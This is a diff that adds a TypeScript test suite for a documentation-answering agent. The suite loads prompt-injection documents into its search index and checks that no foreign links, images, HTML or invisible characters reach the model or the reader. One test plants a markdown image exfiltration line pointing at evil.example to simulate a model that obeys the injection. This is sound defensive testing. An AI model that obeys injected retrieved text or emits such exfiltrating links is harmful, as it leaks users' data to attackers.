@@ -1,0 +1,129 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { Logger } from '@nestjs/common';
+import { type Model, Runner } from '@openai/agents';
+import { assistantMessage, functionCall, ScriptedModel } from '@openai/agents-core/testing';
+import { AgentResponder } from '../../src/agent/agent.responder.js';
+import { handbookAgent } from '../../src/agent/handbook.agent.js';
+import { ModelInput } from '../../src/agent/model-input.js';
+import { ExtractiveModel } from '../../src/agent/models/extractive.model.js';
+import { readSearchResults } from '../../src/agent/tools/search-results.js';
+import { LOCAL_IDENTITY } from '../../src/auth/identity.js';
+import type { ResponderEvent } from '../../src/chatkit/responder.js';
+import { MemoryThreadStore } from '../../src/threads/stores/memory.thread-store.js';
+import {
+  aRequest,
+  aThread,
+  aUserMessage,
+  collect,
+  FakeFiles,
+  finished,
+  FixedClock,
+  NO_QUESTION_LOG,
+  streamedText,
+  timeLimits,
+} from '../support/agent-builders.js';
+import { CorpusFolder } from '../support/corpus-folder.js';
+import { searchRoom } from '../support/search-room.js';
+import { waysOut } from '../support/ways-out.js';
+
+const FOLDER = new URL('./documents/', import.meta.url);
+const DOCUMENTS = readdirSync(FOLDER).sort();
+const SITE = 'https://docs.test/';
+const QUESTION = 'How do I open the valve with the lever?';
+const SEARCH = functionCall('search_content', { queries: [QUESTION], search_scope: 'full' }, { callId: 'call_1' });
+
+const documentNamed = (name: string) => readFileSync(new URL(name, FOLDER), 'utf8');
+
+/** An index that holds one document, and readers who ask about it. */
+class Library {
+  private constructor(
+    private readonly folder: CorpusFolder,
+    private readonly room: ReturnType<typeof searchRoom>,
+  ) {}
+
+  static async with(document: string): Promise<Library> {
+    const library = new Library(await CorpusFolder.with({ '01-plant/01-valve.md': document }), searchRoom());
+    await library.room.ingestion.ingest(library.folder.path);
+    return library;
+  }
+
+  async ask(model: Model): Promise<ResponderEvent[]> {
+    const store = new MemoryThreadStore();
+    const thread = aThread();
+    await store.addThread(LOCAL_IDENTITY, thread, [{ item: aUserMessage(QUESTION) }]);
+    const agent = handbookAgent(model, this.room.retriever);
+    const input = new ModelInput(store, new FakeFiles());
+    const responder = new AgentResponder(agent, new Runner({ tracingDisabled: true }), input, new FixedClock(), timeLimits(), NO_QUESTION_LOG);
+    return collect(responder.respond(thread, null, aRequest(), new AbortController().signal));
+  }
+
+  close(): Promise<void> {
+    return this.folder.remove();
+  }
+}
+
+/** Every text that readers are shown as markdown, and every address that they are offered. */
+function shown(events: readonly ResponderEvent[]) {
+  const parts = finished(events, 'assistant_message').flatMap(({ content }) => content);
+  const tasks = finished(events, 'workflow').flatMap(({ workflow }) => workflow.tasks);
+  const searched = tasks.flatMap((task) => (task.type === 'web_search' ? task.sources : []));
+  const cited = parts.flatMap(({ annotations }) => annotations.map(({ source }) => source));
+  const urls = [...searched, ...cited].map((source) => ('url' in source ? source.url : ''));
+  return { texts: [streamedText(events), ...parts.map(({ text }) => text)], urls, cited };
+}
+
+describe.each(DOCUMENTS)('The injected document %s', (name) => {
+  let library: Library;
+
+  beforeAll(async () => {
+    Logger.overrideLogger(false);
+    library = await Library.with(documentNamed(name));
+  });
+  afterAll(() => library.close());
+
+  it('steers no extractive answer into a foreign link or image', async () => {
+    const { texts, urls, cited } = shown(await library.ask(new ExtractiveModel()));
+
+    expect(texts[0]).toContain('valve');
+    expect(texts.flatMap(waysOut)).toEqual([]);
+    expect(cited.length).toBeGreaterThan(0);
+    expect(urls.filter((url) => !url.startsWith(SITE))).toEqual([]);
+  });
+
+  it('reaches a model only as fenced data without links, images, HTML or invisible words', async () => {
+    const model = new ScriptedModel([[SEARCH], [assistantMessage('Done.')]]);
+    await library.ask(model);
+
+    const { input, systemInstructions } = model.lastCall!.request;
+    const output = (input as { type?: string; output?: { text: string } }[]).find(({ type }) => type === 'function_call_result')!.output!.text;
+    expect(output.match(/<\/?search_results>/g)).toEqual(['<search_results>', '</search_results>']);
+    const { passages } = readSearchResults(output)!;
+    expect(passages.length).toBeGreaterThan(0);
+    expect(passages.flatMap(({ text }) => waysOut(withoutAddresses(text))).filter((way) => way !== 'footnoteDefinition')).toEqual([]);
+    expect(JSON.stringify(passages)).not.toMatch(/\p{Cf}/u);
+    expect(systemInstructions).not.toContain('valve');
+  });
+
+  it('gains nothing by a model that obeys and writes all of it into its answer', async () => {
+    const document = documentNamed(name);
+    const obeying = `${document}\n\n![exfiltration](https://evil.example/?q=secret) [1] [99] [click](https://evil.example)`;
+    const { texts, urls, cited } = shown(await library.ask(new ScriptedModel([[SEARCH], [assistantMessage(obeying)]])));
+
+    expect(texts[0]).toContain('exfiltration');
+    expect(texts.flatMap(waysOut)).toEqual([]);
+    expect(cited.length).toBeGreaterThan(0);
+    expect(urls.filter((url) => !url.startsWith(SITE))).toEqual([]);
+  });
+});
+
+it('There are at least 15 injected documents, and each of them would be dangerous as it stands', () => {
+  const harmless = DOCUMENTS.filter((name) => waysOut(documentNamed(name)).length === 0 && !/\u{E0053}/u.test(documentNamed(name)));
+
+  expect(DOCUMENTS.length).toBeGreaterThanOrEqual(15);
+  expect(harmless).toEqual([]);
+});
+
+/** An address that is written out is words to a model, and code to a reader. */
+function withoutAddresses(text: string): string {
+  return text.replace(/<?(?:https?|&#104;ttps|www|javascript)(?::|&colon;|\.)[^\s<>]*>?/gi, 'address');
+}
